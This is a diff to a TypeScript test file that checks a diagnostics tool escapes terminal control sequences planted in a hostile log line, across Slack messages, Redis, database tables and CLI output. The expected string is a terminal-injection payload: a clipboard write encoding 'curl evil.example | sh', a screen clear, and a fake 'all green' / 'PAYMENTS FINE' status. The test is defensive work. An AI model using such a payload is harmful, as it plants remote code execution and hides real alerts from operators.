@@ -20,7 +20,7 @@ import { deleteRedisPrefix, dumpRedisPrefix, postWebhook } from './support.js';
 interface Planted { id: string; text: string; needles: string[] }
 
 const lab = inject('lab');
-const { SECRETS } = createRequire(import.meta.url)('../lab/apps/node/routes-leaky.cjs') as { SECRETS: Planted[] };
+const { SECRETS, HOSTILE_TENANT } = createRequire(import.meta.url)('../lab/apps/node/routes-leaky.cjs') as { SECRETS: Planted[]; HOSTILE_TENANT: string };
 const CHANNEL = 'C0LEAKS';
 const host = lab.hosts.leaky!;
 let fake: FakeSlack;
@@ -28,6 +28,7 @@ let db: TestDatabase;
 let env: Record<string, string>;
 let svc: ServiceUnderTest;
 let cli: CliRun;
+let cliText: CliRun;
 let sinks: Map<string, string>;
 
 const flat = (m: FakeMessage) => [m.text, JSON.stringify(m.blocks ?? []), ...m.replies.map((r) => `${r.text}\n${JSON.stringify(r.blocks ?? [])}`)].join('\n');
@@ -68,6 +69,7 @@ beforeAll(async () => {
   await fake.waitFor((f) => f.messages(CHANNEL).find((m) => m.replies.length > 0 && flat(m).includes('upstream_app_error')), 60_000);
   await fake.waitFor((f) => f.messages(ALERT_CHANNEL).find((m) => m.replies.length > 0 && flat(m).includes('upstream_app_error')), 60_000);
   cli = await runCli(['diagnose', 'leaky', '--inventory', lab.inventoryPath, '--format', 'json'], { timeoutMs: 60_000 });
+  cliText = await runCli(['diagnose', 'leaky', '--inventory', lab.inventoryPath], { timeoutMs: 60_000 });
 
   sinks = new Map<string, string>([
     ...fake.calls.map((c, i) => [`slack call #${i + 1} ${c.method}`, JSON.stringify(c.body)] as [string, string]),
@@ -75,6 +77,7 @@ beforeAll(async () => {
     ...[...await dumpRedisPrefix(env.QUEUE_PREFIX!)].map(([k, v]) => [`redis ${k}`, v] as [string, string]),
     ...await dumpDatabase(db.url),
     ['cli stdout (--format json)', cli.stdout],
+    ['cli stdout (text)', cliText.stdout],
     ['cli stderr', cli.stderr],
   ]);
 }, 180_000);
@@ -127,3 +130,29 @@ describe('secrets planted in real command output', () => {
     expect(missing(slack)).toEqual([]);
   });
 });
+
+describe('terminal control sequences from the same log line', () => {
+  it('are in the host\'s app log raw', () => {
+    const appLog = readFileSync(join(lab.dir, 'hosts', 'leaky', 'var-log', lab.hosts.leaky!.appLog!.replace(/^\/var\/log\//, '')), 'utf8');
+    expect(appLog).toContain(HOSTILE_TENANT);
+  });
+
+  it('reach every sink only as visible escapes: Slack calls, logs, Redis, tables, CLI JSON and text', () => {
+    // As raw characters, or as JSON's \u001b for them: either would act on a reader's terminal once decoded.
+    // eslint-disable-next-line no-control-regex
+    const raw = /[\x00-\x08\x0b-\x1f\x7f-\x9f]|\\u00(?:0[0-8bcef]|1[0-9a-f]|7f|[89][0-9a-f])/i;
+    const bad: string[] = [];
+    for (const [sink, text] of sinks) {
+      const at = text.search(raw);
+      // Other text may legitimately hold escapes (JSON's \n is fine); only the planted ones matter.
+      if (at >= 0 && /52;c;|all green|PAYMENTS FINE/.test(text.slice(Math.max(0, at - 200), at + 200))) bad.push(`${sink}: …${JSON.stringify(text.slice(Math.max(0, at - 40), at + 40))}…`);
+    }
+    expect(bad).toEqual([]);
+    const escaped = '\\e]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07\\e[2J\\e[H\\e]0;all green\\x07\\rPAYMENTS FINE';
+    expect(cliText.code).toBe(0);
+    expect(cliText.stdout).toContain(escaped);
+    const slack = [...sinks].filter(([k]) => k.startsWith('slack call ')).map(([, v]) => JSON.parse(v) as unknown);
+    expect(JSON.stringify(slack)).toContain(JSON.stringify(escaped).slice(1, -1));
+  });
+});
+
